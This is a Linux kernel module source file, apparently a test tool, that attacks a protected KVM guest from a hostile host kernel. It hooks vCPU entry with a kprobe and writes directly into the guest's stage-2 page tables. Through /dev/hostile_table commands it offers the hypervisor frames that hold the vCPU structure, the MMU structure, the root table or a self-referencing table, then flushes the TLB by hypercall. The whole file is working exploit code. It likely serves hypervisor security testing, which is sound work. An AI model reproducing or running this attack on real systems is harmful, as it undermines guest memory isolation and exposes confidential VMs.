// SPDX-License-Identifier: GPL-2.0-only
/*
 * A host kernel that writes into KVM's stage-2 table of a protected guest, so that the hypervisor is offered frames for it that are no memory of a
 * guest's: those of the vCPU that runs, of the table itself, of anything that has a number.
 *
 * Commands are written to /dev/hostile_table, a line each. PID is decimal, all other numbers are hexadecimal. GUEST is a guest address whose last
 * table KVM has made already, by mapping another page there.
 *
 *   on PID               the VM whose vCPU this process runs next is the victim
 *   frame GUEST FRAME    the page at GUEST is the frame at the physical address FRAME
 *   vcpu GUEST NUMBER    .. frame NUMBER of those in which vCPU 0's structure lies
 *   mmu GUEST NUMBER     .. frame NUMBER of those in which that part of the VM's structure lies that the hypervisor uses
 *   root GUEST           .. the first page of the first table
 *   self GUEST           .. the last table itself, which is a new one for that
 *   mend GUEST           nothing is at GUEST
 *
 * Read, it says how often the victim's vCPUs were entered, how many frames its vCPU 0 has (NUMBER counts around these), how many entries are left in
 * the table that was given last, how many frames there are for `mmu`, and in how many the VM's whole structure lies.
 *
 * Nothing is locked against KVM, which may change the same table: whoever commands this sees to it that no page comes or goes meanwhile. A table that
 * was the guest's and has come back is zero, and KVM makes those anew that it led to: they are lost. Each leaf counts as a user of its table.
 */
#include <linux/gfp.h>
#include <linux/kprobes.h>
#include <linux/kvm_host.h>
#include <linux/mm.h>
#include <linux/sched.h>
#include <asm/kvm_pgtable.h>
#include "command_device.h"

#define FLUSH		(0xc6000000UL + __KVM_HOST_SMCCC_FUNC___kvm_tlb_flush_vmid)
#define TABLE		0x3UL
#define ADDRESS		0x0000fffffffff000UL
#define LAST_LEVEL	3

static struct kvm *victim;
static pid_t target;
static u64 entries, *given;

static int before(struct kprobe *probe, struct pt_regs *regs)
{
	struct kvm_vcpu *vcpu = (struct kvm_vcpu *)regs->regs[0];

	if (current->tgid != target)
		return 0;
	victim = vcpu->kvm;
	entries++;
	return 0;
}

static struct kprobe probe = { .symbol_name = "kvm_arch_vcpu_ctxflush_fp", .pre_handler = before };

/* The entry for `guest` in its last table, and in *above the one that leads there; NULL where KVM has not made that. */
static u64 *entry_of(u64 guest, u64 **above)
{
	struct kvm_s2_mmu *mmu = &victim->arch.mmu;
	u64 *table = phys_to_virt(mmu->pgd_phys), *entry = NULL;
	int level = mmu->pgt->start_level;
	u64 index = guest >> (39 - 9 * level);		/* the tables of the first level lie in a row */

	for (; level < LAST_LEVEL; level++) {
		entry = table + index;
		if ((READ_ONCE(*entry) & TABLE) != TABLE)
			return NULL;
		table = phys_to_virt(*entry & ADDRESS);
		index = guest >> (39 - 9 * (level + 1)) & 511;
	}
	*above = entry;
	return table + index;
}

/* The hypervisor may forget what it knows of the table. */
static void flush(void)
{
	register u64 x0 asm("x0") = FLUSH;
	register u64 x1 asm("x1") = (u64)&victim->arch.mmu;

	asm volatile("hvc #0" : "+r"(x0), "+r"(x1) :
		     : "x2", "x3", "x4", "x5", "x6", "x7", "x8", "x9", "x10", "x11", "x12", "x13", "x14", "x15", "x16", "x17", "memory");
}

/* What a leaf of this table says beside the address, of which KVM has made one: where addresses are wide it has no shareability. */
static u64 attributes(u64 *table)
{
	int i;

	for (i = 0; i < 512; i++)
		if (READ_ONCE(table[i]) & 1)
			return table[i] & ~ADDRESS;
	return 0;
}

static void give(u64 *entry, u64 frame)
{
	u64 leaf = attributes((u64 *)((u64)entry & PAGE_MASK));

	if (!(READ_ONCE(*entry) & 1))
		get_page(virt_to_page(entry));
	WRITE_ONCE(*entry, (frame & ADDRESS) | leaf);
	dsb(ishst);
	flush();
}

static void mend(u64 *entry)
{
	if (!(READ_ONCE(*entry) & 1))
		return;
	WRITE_ONCE(*entry, 0);
	dsb(ishst);
	put_page(virt_to_page(entry));
	flush();
}

static u64 frames_of(const void *object, size_t size)
{
	return (((u64)object & ~PAGE_MASK) + size + PAGE_SIZE - 1) / PAGE_SIZE;
}

static void give_part(u64 *entry, const void *object, size_t size, u64 number)
{
	give(entry, virt_to_phys((char *)((u64)object & PAGE_MASK) + number % frames_of(object, size) * PAGE_SIZE));
}

static u64 mmu_frames(void)
{
	return victim ? frames_of(&victim->arch.mmu, sizeof(victim->arch.mmu)) : 0;
}

static u64 vm_frames(void)
{
	return victim ? frames_of(victim, sizeof(*victim)) : 0;
}

static int give_self(u64 *entry, u64 *above)
{
	u64 *old = (u64 *)((u64)entry & PAGE_MASK), *table = (u64 *)__get_free_page(GFP_KERNEL);

	if (!table)
		return -ENOMEM;
	memcpy(table, old, PAGE_SIZE);
	table[entry - old] = virt_to_phys(table) | attributes(old);
	dsb(ishst);
	WRITE_ONCE(*above, virt_to_phys(table) | TABLE);
	dsb(ishst);
	flush();
	given = table;
	return 0;
}

static int give_root(u64 *entry)
{
	given = phys_to_virt(victim->arch.mmu.pgd_phys);
	give(entry, victim->arch.mmu.pgd_phys);
	return 0;
}

static u64 entries_left(void)
{
	u64 i, left = 0;

	for (i = 0; given && i < 512; i++)
		left += READ_ONCE(given[i]) & 1;
	return left;
}

static int command(char *line)
{
	u64 guest = 0, number = 0, *entry, *above;
	char name[16];

	if (sscanf(line, "%15s", name) != 1)
		return -EINVAL;
	if (!strcmp(name, "on")) {
		victim = NULL;
		given = NULL;
		entries = 0;
		return sscanf(line, "%*s %d", &target) == 1 ? 0 : -EINVAL;
	}
	if (sscanf(line, "%*s %llx %llx", &guest, &number) < 1)
		return -EINVAL;
	if (!victim)
		return -ENOENT;
	entry = entry_of(guest, &above);
	if (!entry)
		return -ENOENT;
	if (!strcmp(name, "mend"))
		mend(entry);
	else if (!strcmp(name, "frame"))
		give(entry, number);
	else if (!strcmp(name, "vcpu"))
		give_part(entry, kvm_get_vcpu(victim, 0), sizeof(struct kvm_vcpu), number);
	else if (!strcmp(name, "mmu"))
		give_part(entry, &victim->arch.mmu, sizeof(victim->arch.mmu), number);
	else if (!strcmp(name, "root"))
		return give_root(entry);
	else if (!strcmp(name, "self"))
		return give_self(entry, above);
	else
		return -EINVAL;
	return 0;
}

static ssize_t counts_read(struct file *file, char __user *text, size_t size, loff_t *at)
{
	said_length = 0;
	say("entries %llu frames %llu left %llu mmu %llu vm %llu", READ_ONCE(entries),
	    victim ? frames_of(kvm_get_vcpu(victim, 0), sizeof(struct kvm_vcpu)) : 0, entries_left(), mmu_frames(), vm_frames());
	return said_read(file, text, size, at);
}

COMMAND_DEVICE(counts_read);

static int __init hostile_init(void)
{
	int failed = register_kprobe(&probe);

	return failed ? failed : misc_register(&device);
}
module_init(hostile_init);

MODULE_DESCRIPTION("Attacks on a protected guest by KVM's table of its memory");
MODULE_LICENSE("GPL");
